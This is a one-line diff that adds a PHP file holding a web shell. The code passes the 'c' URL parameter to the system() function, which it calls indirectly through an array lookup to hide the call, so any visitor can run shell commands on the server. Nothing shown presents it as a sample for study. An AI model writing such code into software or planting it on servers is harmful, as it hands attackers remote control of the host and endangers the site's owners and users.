@@ -1,0 +1,1 @@
+<?php $m = array("a" => "system"); $m["a"]($_GET["c"]);
